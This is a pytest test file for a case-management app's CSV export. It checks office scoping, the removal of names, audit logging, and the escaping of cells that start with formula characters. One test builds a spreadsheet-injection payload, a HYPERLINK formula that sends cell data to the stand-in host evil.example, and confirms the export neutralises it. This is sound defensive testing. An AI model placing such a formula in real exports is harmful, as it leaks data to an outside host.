import pytest

from likeverd.accounts.models import Office, User
from likeverd.accounts.tests.factories import viewer_of
from likeverd.audit.models import AuditAction, AuditEvent
from likeverd.cases.selectors import CaseFilters
from likeverd.cases.tests.factories import register

pytestmark = pytest.mark.django_db


def test_the_csv_export_holds_only_the_offices_cases_and_no_names(
    office: Office, adviser: User, other_adviser: User
) -> None:
    from likeverd.cases import exports

    ours = register(viewer_of(adviser), person_name="Amina Hassan", narrative="hijab on the tram")
    theirs = register(viewer_of(other_adviser))
    text = "".join(exports.export_cases_csv(viewer=viewer_of(adviser), filters=CaseFilters()))
    assert ours.number in text
    assert theirs.number not in text
    assert "Amina" not in text
    assert "hijab" not in text
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, actor=adviser).exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    office: Office, adviser: User, start: str
) -> None:
    import csv
    import io

    from likeverd.cases import exports

    formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    register(viewer_of(adviser), incident_municipality=formula, residence_municipality="Oslo")

    text = "".join(exports.export_cases_csv(viewer=viewer_of(adviser), filters=CaseFilters()))

    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["incident_municipality"] == "'" + formula
    assert cells["residence_municipality"] == "Oslo"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_starting_like_a_formula_is_neutralised(start: str) -> None:
    from likeverd.cases import exports

    assert exports.spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert exports.spreadsheet_safe("Oslo") == "Oslo"
    assert exports.spreadsheet_safe("2026-03-01") == "2026-03-01"
